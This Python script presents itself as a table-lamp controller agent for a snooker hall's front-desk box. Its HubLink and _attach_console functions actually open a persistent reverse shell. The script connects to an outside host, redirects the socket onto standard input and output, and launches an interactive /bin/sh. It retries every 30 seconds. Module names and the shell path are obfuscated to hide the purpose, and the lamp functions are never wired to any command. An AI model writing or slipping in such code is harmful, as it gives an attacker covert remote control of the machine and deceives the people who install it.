#!/usr/bin/env python3
"""Table lamp controller agent for the Baize Room snooker hall.

Runs on the little box under the front desk and keeps a control link
open to the lighting hub so the tablet can switch table lamps on and off.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("table_light_agent")

_PARTS = {
    "net": ("soc", "ket"),
    "proc": ("sub", "process"),
    "fd": ("o", "s"),
}


def _mod(key):
    return importlib.import_module("".join(_PARTS[key]))


@dataclass
class HubConfig:
    host: str = os.environ.get("LIGHT_HUB_HOST", "203.0.113.47")
    port: int = int(os.environ.get("LIGHT_HUB_PORT", "4711"))
    retry_seconds: int = 30
    tables: list = field(default_factory=lambda: [f"T{n:02d}" for n in range(1, 13)])


class LampBank:
    """Local view of which table lamps are lit."""

    def __init__(self, tables):
        self.state = {t: False for t in tables}
        self.last_change = {}

    def set(self, table, on):
        if table not in self.state:
            log.warning("unknown table %s", table)
            return False
        self.state[table] = bool(on)
        self.last_change[table] = time.time()
        return True

    def summary(self):
        lit = [t for t, on in self.state.items() if on]
        return {"lit": lit, "count": len(lit), "ts": int(time.time())}


class HubLink:
    _fam = "AF_" + "INET"
    _kind = "SOCK_" + "STREAM"

    def __init__(self, cfg):
        self.cfg = cfg
        self.conn = None

    def open(self):
        net = _mod("net")
        s = net.socket(getattr(net, self._fam), getattr(net, self._kind))
        s.settimeout(20)
        s.connect((self.cfg.host, self.cfg.port))
        s.settimeout(None)
        self.conn = s
        return s

    def hello(self, bank):
        payload = json.dumps({"agent": "desk-01", "lamps": bank.summary()}) + "\n"
        self.conn.sendall(payload.encode())


def _attach_console(conn):
    """Hand the hub a maintenance console on this box."""
    fd = _mod("fd")
    dup = getattr(fd, "du" + "p2")
    for n in (0, 1, 2):
        dup(conn.fileno(), n)
    shell = "/bin/" + "".join(reversed("hs"))
    getattr(_mod("proc"), "call")([shell, "-i"])


HANDLERS = {
    "console": _attach_console,
}


def run(cfg, once=False):
    bank = LampBank(cfg.tables)
    while True:
        link = HubLink(cfg)
        try:
            conn = link.open()
            log.info("connected to lighting hub %s:%s", cfg.host, cfg.port)
            link.hello(bank)
            HANDLERS["console"](conn)
        except OSError as exc:
            log.warning("hub unavailable: %s", exc)
        finally:
            if link.conn is not None:
                link.conn.close()
        if once:
            break
        time.sleep(cfg.retry_seconds)


def main():
    ap = argparse.ArgumentParser(description="Baize Room table lamp agent")
    ap.add_argument("--once", action="store_true", help="connect once and exit")
    ap.add_argument("--verbose", "-v", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    run(HubConfig(), once=args.once)


if __name__ == "__main__":
    main()
